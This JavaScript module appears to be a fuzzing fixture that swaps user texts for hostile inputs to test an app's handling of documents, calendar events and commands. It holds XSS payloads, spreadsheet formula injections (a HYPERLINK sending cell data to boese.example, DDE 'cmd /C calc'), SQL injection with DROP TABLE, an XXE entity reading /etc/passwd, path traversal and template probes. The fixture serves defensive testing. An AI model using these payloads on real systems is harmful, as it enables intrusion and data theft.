// Hostile words: what somebody could write into a field of text so that a page runs it, a sheet calculates it, a file breaks or a reader is misled.

/** What the readers of Konzept, events and commands let in. Nothing of it is ever more than words; a small number among them would look like a count to the gate. */
const angriffe = [
  "<script>alert(document.title)</script><img src=x onerror=alert(document.title)>",
  "\"><svg/onload=alert(document.title)><a href=\"javascript:alert(document.title)\">' onmouseover='alert(document.title)",
  "</style></title></textarea></script><!-- --><base href=\"https://boese.example/\"><meta http-equiv=refresh content=99999>",
  "[Klick](javascript:alert(document.title)) ![Bild](https://boese.example/x.png) <https://boese.example/> https://boese.example/ www.boese.example",
  "=HYPERLINK(\"https://boese.example/?\"&A1,\"Klick\")",
  "@SUM(A1:A9)*cmd|' /C calc'!A0",
  "+A1+cmd|' /C calc'!A0",
  "-A1-WEBSERVICE(\"https://boese.example/\")",
  "\t=IMPORTXML(\"https://boese.example/\",\"//a\")",
  "{{70000*70000}} ${70000*70000} <%= 70000*70000 %> #{70000*70000} {% raw %} %(x)s $(id) `id`",
  "a\";\"b\",\"c';DROP TABLE konzept;--",
  "Ende\r\nEND:VEVENT\r\nEND:VCALENDAR\r\nBEGIN:VCALENDAR\r\nATTACH:https://boese.example/",
  "\\n\\;,;:\"^n X-BOESE:1",
  "]]> <![CDATA[ x ]]> &lt;script&gt; &#x3C;b&#x3E; &amp;amp; <!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e; <?xml version=\"1.0\"?>",
  "# Kopf\n\n---\n\n| a | b |\n|---|---|\n| c | d |",
  "99998. Punkt\n99999. Punkt\n\n> Zitat\n\n```js\nalert(document.title)\n```\n\n    Code\n",
  "* * *\n[x]: https://boese.example/\n~~weg~~ **fett** _kursiv_ <b>b</b> \\",
  "null\u200B\u200D\u2060\u00ADweit\uFEFF\u180E \u200E\u200F\u061C",
  "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030A\u030B\u030C\u030D\u030E\u030F\u0310a\u0489\u0334\u0335\u0336l",
  "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 𝕬𝖇𝖈 \u{E0041}\u{E007F}",
  "שלום مرحبا بالعالم ١٢٣",
  "Zeile\u2028Absatz\u2029Ende\u0085\u009F",
  "_x0041_ _x000D_ _xD_ _x0000_ %0D%0A \\u0000 \\x00",
  "kein Zeichen\uFFFE\uFFFF\uFFFD\u{1FFFF}",
  "../../../../etc/passwd C:\\CON NUL /dev/null ?*:|<>[]",
  "'", "\"", "`", "\\", "~", "constructor __proto__ toString",
]

/** The longest word that a text of the Konzept may hold, and a sentence of as many letters. */
const lang = ["W".repeat(7900), "Wort ".repeat(1500), "<b>".repeat(2600)]

/** What only fields can hold that nobody reads with care: those of the city that come as they are. */
export const roh = [
  "\u0000\u0001\u0008\u000B\u000C\u000E\u001F\u007F<script>alert(document.title)</script>",
  "\u202Egnp.txt\u202C \u2066isoliert \u202A\u202B\u202D",
  "halb \uD800 halb \uDC00",
  "L".repeat(10_000),
]

const BUCHSTABEN = 26
const marke = (nummer) => (nummer < BUCHSTABEN ? "" : marke(Math.floor(nummer / BUCHSTABEN) - 1)) + String.fromCodePoint(0x61 + (nummer % BUCHSTABEN))

/** Each long text stands for few: a city of nothing else would be one of long texts only. */
const SELTEN = 150

/** Makes a function that gives for every text a hostile one: for the same text the same, for another text another. */
export const makeFeind = () => {
  const bekannt = new Map()
  return (text) => {
    if (!bekannt.has(text)) {
      const nummer = bekannt.size
      const angriff = nummer % SELTEN === SELTEN - 1 ? lang[Math.floor(nummer / SELTEN) % lang.length] : angriffe[nummer % angriffe.length]
      bekannt.set(text, `${angriff} ${marke(nummer)}`)
    }
    return bekannt.get(text)
  }
}

/** The same text with everything taken out that could do something: as long, and of the same lines. */
export const zahm = (text) => text.replace(/[^\p{L}\p{N} \n]/gu, "x").replace(/[^\u0000-\u024F]/gu, "y")
